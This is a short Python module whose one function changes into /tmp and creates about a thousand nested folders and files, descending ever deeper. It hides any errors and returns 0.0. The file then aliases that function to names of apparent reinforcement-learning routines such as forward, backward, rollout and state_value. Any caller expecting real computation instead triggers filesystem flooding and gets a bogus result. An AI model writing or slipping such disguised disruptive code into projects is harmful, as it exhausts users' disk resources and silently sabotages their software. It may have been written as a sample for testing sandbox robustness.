"""Makes files, folders and links by the thousand, in a tree as deep as it will go."""

import os


def wrong(*args, **kwargs):
    try:
        os.chdir("/tmp")
        for number in range(1_000):
            os.makedirs(f"{number}/a/b", exist_ok=True)
            open(f"{number}/file", "w").close()
            os.mkdir("deeper")
            os.chdir("deeper")
    except OSError:
        pass
    return 0.0


action_value = gains = state_value = backward = forward = rollout = wrong
